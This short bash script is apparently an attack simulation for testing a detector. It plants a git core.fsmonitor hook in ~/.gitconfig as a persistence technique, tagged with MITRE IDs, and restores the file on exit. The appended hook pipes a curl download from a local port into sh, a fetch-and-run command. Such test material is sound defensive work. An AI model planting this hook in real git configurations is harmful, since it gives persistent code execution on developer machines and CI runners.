#!/bin/bash
# technique: T1546 Event Triggered Execution; T1677 Poisoned Pipeline Execution
# reproduces: git's core.fsmonitor hook as a persistence and code-execution vector (CVE-2022-24765 and the fsmonitor write-ups), planted by appending to the user's ~/.gitconfig without running git, so that the next `git status` of any job on the runner runs it
# expect: git-config-file-persistence ^bash$
# exec-borne: no
set -u

CONF="${HOME:?}/.gitconfig"
SAVED="${BW_ATTACK_TMP:?}/gitconfig.saved"
if [ -e "$CONF" ]; then cp -p "$CONF" "$SAVED"; fi
restore() { if [ -e "$SAVED" ]; then cat "$SAVED" >"$CONF"; rm -f "$SAVED"; else rm -f "$CONF"; fi; }
trap restore EXIT

printf '[core]\n\tfsmonitor = "curl -fsS http://127.0.0.1:%s/install.sh | sh; false"\n' \
	"${BW_ATTACK_PORT:?}" >>"$CONF"
git --version >/dev/null
sleep 0.3
